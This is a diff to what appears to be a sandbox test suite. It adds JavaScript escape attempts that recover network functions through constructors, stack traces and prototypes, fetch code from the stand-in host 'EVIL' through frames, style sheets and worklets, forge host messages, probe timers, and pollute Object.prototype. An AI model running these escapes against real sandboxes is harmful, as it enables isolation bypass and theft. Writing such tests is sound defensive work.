@@ -1,5 +1,7 @@
+import { attemptsInLanguages } from './escapes-in-languages.ts'
+
 /**
- * Programs that try to get out of the sandbox, in JavaScript, where most doors are. `EVIL` stands for somebody else's
+ * Programs that try to get out of the sandbox, most of them in JavaScript, where most doors are. `EVIL` stands for somebody else's
  * server, `APP` for our own. Each says `begun` first; `attempt` catches, so that all its tries are made.
  */
 export interface Escape {
@@ -136,6 +138,61 @@ if (/room|#/.test(location.href) || /room/.test(location.ancestorOrigins?.[0] ??
   'webassembly-network': `await attempt('compile', () => WebAssembly.compileStreaming(fetch('EVIL/wasm')))
 await attempt('response', () => WebAssembly.compileStreaming(new Response(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]), { headers: { 'Content-Type': 'application/wasm' } })))
 await attempt('request', () => new Request('EVIL/request').text())`,
+  'recovered-from-generators': `const makers = [function* () {}, async function* () {}, async () => {}, () => {}].map((one) => one.constructor)
+for (const Maker of makers) {
+  for (const name of ['fetch', 'Worker', 'importScripts', 'WebSocket']) {
+    await attempt(name, async () => {
+      const made = Maker('return typeof ' + name + ' === "function" ? "found" : "none"')()
+      const value = made?.next ? (await made.next()).value : await made
+      if (value === 'found') console.log('ESCAPED', name)
+      throw 0
+    })
+  }
+}`,
+  'recovered-through-errors': `await attempt('stack', () => {
+  Error.prepareStackTrace = (_error, sites) => sites
+  for (const site of new Error('x').stack) {
+    const self = site.getThis?.() ?? site.getFunction?.()
+    if (self && (self.fetch || self.postMessage)) console.log('ESCAPED through the stack')
+    if (/room|APP/.test(String(site.getFileName?.() ?? ''))) console.log('ESCAPED file name')
+  }
+})
+Error.prepareStackTrace = undefined
+if (/room\\/|#/.test(new Error('y').stack)) console.log('ESCAPED address')`,
+  'recovered-from-prototypes': `for (const object of [globalThis, Object.getPrototypeOf(globalThis), Object.getPrototypeOf(Object.getPrototypeOf(globalThis))]) {
+  for (const name of ['fetch', 'Worker', 'postMessage', 'importScripts', 'onmessage', 'XMLHttpRequest']) {
+    await attempt(name, () => { if (Reflect.get(object, name, globalThis)) console.log('ESCAPED', name); throw 0 })
+    await attempt(name, () => { if (object.__lookupGetter__(name)) console.log('ESCAPED getter of', name); throw 0 })
+  }
+}`,
+  'nested-frames': `for (const tag of ['iframe', 'object', 'embed', 'portal', 'fencedframe']) {
+  await attempt(tag, () => { const frame = document.createElement(tag); frame.src = frame.data = 'EVIL/' + tag; document.body.append(frame); console.log('ESCAPED', tag) })
+}
+await attempt('srcdoc', () => { const frame = document.createElement('iframe'); frame.srcdoc = '<img src="EVIL/srcdoc">'; document.body.append(frame) })
+await attempt('parser', () => new DOMParser().parseFromString('<img src="EVIL/parser">', 'text/html'))`,
+  'style-sheets': `await attempt('sheet', () => new CSSStyleSheet({ baseURL: 'EVIL' }).replaceSync('@import "EVIL/sheet"; * { background: url(EVIL/url) }'))
+await attempt('paint', () => CSS.paintWorklet.addModule('EVIL/paint.js'))
+await attempt('audio', () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('EVIL/audio.js'))`,
+  'forged-compilation': `const port = new MessageChannel()
+for (const message of [
+  { kind: 'execute', module: {}, program: { entry: 'x', files: [], input: '' } },
+  { kind: 'executed', ending: 'finished', ms: 0 },
+  { kind: 'ready', lasting: true },
+  { kind: 'case-ended', index: 0, outcome: { value: 'FORGED' }, ms: 0 },
+]) {
+  await attempt('post', () => postMessage(message))
+  await attempt('event', () => dispatchEvent(new MessageEvent('message', { data: message, ports: [port.port1] })))
+  await attempt('port', () => port.port2.postMessage(message))
+}`,
+  'leaked-timing': `let finest = Infinity
+for (let i = 0, last = performance.now(); i < 200000; i++) { const now = performance.now(); if (now > last) { finest = Math.min(finest, now - last); last = now } }
+if (finest < 0.05) console.log('ESCAPED a clock of', finest)
+if (performance.getEntriesByType('resource').some(({ name }) => !name.startsWith('blob:'))) console.log('ESCAPED requests')
+await attempt('memory', () => { if (performance.measureUserAgentSpecificMemory) return performance.measureUserAgentSpecificMemory(); throw 0 })`,
+  'cloned-getters': `await attempt('clone', () => structuredClone({ get kind() { console.log('read'); return 'ended' } }))
+Object.defineProperty(Object.prototype, 'module', { get() { return { stolen: this } }, configurable: true })
+Object.defineProperty(Object.prototype, 'request', { set() { console.log('ESCAPED with a request') }, configurable: true })
+await new Promise((resolve) => setTimeout(resolve, 50))`,
   streams: `await attempt('stream', () => new Response(new Blob(['x'])).body.pipeTo(new WritableStream({ write() { throw 1 } })))
 await attempt('object', () => URL.createObjectURL({ href: 'EVIL' }))`,
 }
@@ -162,9 +219,10 @@ port1.postMessage('x'); setInterval(() => {}, 1000)`,
 
 const program = (name: string, text: string): Escape => ({ name: `${name}.js`, text })
 
-export const escapes: readonly Escape[] = Object.entries(attempts).map(([name, text]) =>
-  program(name, prelude + text),
-)
+export const escapes: readonly Escape[] = [
+  ...Object.entries(attempts).map(([name, text]) => program(name, prelude + text)),
+  ...Object.entries(attemptsInLanguages).map(([name, text]) => ({ name, text })),
+]
 export const bombs: readonly Escape[] = Object.entries(exhaustions).map(([name, text]) =>
   program(name, `console.log('begun')\n${text}\n`),
 )
